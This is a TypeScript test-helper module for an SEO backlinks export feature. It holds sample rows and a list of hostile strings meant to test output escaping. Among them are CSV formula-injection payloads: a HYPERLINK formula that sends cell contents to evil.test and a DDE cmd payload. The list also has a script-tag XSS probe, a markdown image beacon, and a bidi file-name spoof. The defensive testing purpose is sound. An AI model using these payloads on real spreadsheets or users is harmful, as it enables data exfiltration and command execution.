/** What the tests of exports share: rows, what they are about, and texts that mean harm. */
import { existsSync, readFileSync } from 'node:fs';
import type { Column, ColumnKind, Row } from '../../lib/columns.ts';
import type { About } from '../../lib/export/about.ts';
import type { Chunk } from '../../lib/export/define.ts';

export const about: About = {
  targets: ['forbes.com'],
  title: 'Backlinks',
  endpoint: 'backlinks',
  request: { target: 'forbes.com', filters: [['anchor', '=', '=1+1'], 'and', ['rank', '>', 80]], order_by: ['rank,desc'] },
  environment: 'production',
  fetchedAt: Date.UTC(2026, 10, 22, 12, 30, 1),
  rows: 100,
  total: 48_213,
  scope: 'filtered',
  costUsd: 0.0276,
};

export const column = (path: string, kind: ColumnKind = 'text'): Column => ({
  path,
  label: path,
  of: '',
  kind,
  help: `What ${path} means`,
  value: (row) => row[path] ?? null,
});

const decoder = new TextDecoder('utf-8', { ignoreBOM: true });

export const bytesOf = (chunks: Iterable<Chunk>): Uint8Array<ArrayBuffer> =>
  new Uint8Array(Buffer.concat([...chunks].map((chunk) => Buffer.from(chunk as string))));
export const wholeOf = (chunks: Iterable<Chunk>): string => decoder.decode(bytesOf(chunks));

type Sample = { value: string | { repeat: string; n: number } };
const corpus = new URL('../../../shared/corpus/hostile-strings.json', import.meta.url);
const samples: Sample[] = existsSync(corpus) ? JSON.parse(readFileSync(corpus, 'utf8')).strings : [];

/** The essence of what has been tried against spreadsheets, parsers and readers; and more of it where a larger collection is at hand. */
export const hostile: string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.test/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '-2*3',
  '@handle',
  '\n=1+1',
  'safe\r\n=1+1',
  '"=1+1',
  '"=1+1"',
  '";=1+1',
  '\t=1+1',
  '＝1',
  'a,b"c\nd;e\tf',
  'a|b\\|c\\',
  '<script>window.__pwn=1</script>',
  ']]><!--&amp;&#61;1',
  '![x](https://evil.test/?q)',
  '_x003D_1+1',
  '_X000a_=1',
  '\u202egpj.exe',
  'a\u200bb\ufeff',
  '\u{e0049}\u{e0047}',
  '\0\x07\x1b[31m\x7f\x85',
  '\ud800 half',
  '\ufffe\uffff',
  '__proto__',
  'constructor',
  '',
  '   ',
  ' lead and trail ',
  '-5',
  '007',
  '1e5',
  'Форбс فوربس 灯 👨‍👩‍👧',
  'x'.repeat(40_000),
  ...samples.map(({ value }) => (typeof value === 'string' ? value : value.repeat.repeat(value.n))),
];

export const hostileRows: Row[] = hostile.map((v) => ({ v, w: 'x' }));

/** Many rows as the API returns them, in columns of every sort. */
export function manyRows(count: number): { columns: Column[]; rows: Row[] } {
  const kinds: ColumnKind[] = ['text', 'url', 'host', 'count', 'rank', 'spam', 'flag', 'time', 'tags', 'usd', 'httpStatus', 'tally'];
  const columns = [...kinds, ...kinds].map((kind, index) => column(`${kind}_${index}`, kind));
  const sampleOf = (kind: ColumnKind, at: number): unknown => {
    if (kind === 'flag') return at % 3 === 0;
    if (kind === 'time') return `2026-0${1 + (at % 9)}-1${at % 10} 08:00:0${at % 10} +00:00`;
    if (kind === 'tags') return at % 4 ? null : ['nofollow', 'ugc'];
    if (kind === 'tally') return { '': at, NL: 8 };
    if (kind === 'url') return `https://site-${at}.example/a/rather/long/path?with=${at}&and=more`;
    if (kind === 'text') return `Some – text & "quotes" of row ${at}`;
    if (kind === 'host') return `site-${at}.example`;
    return kind === 'usd' ? at / 1000 : at;
  };
  const rows = Array.from({ length: count }, (_, at) => Object.fromEntries(columns.map(({ path, kind }) => [path, sampleOf(kind, at)])));
  return { columns, rows };
}
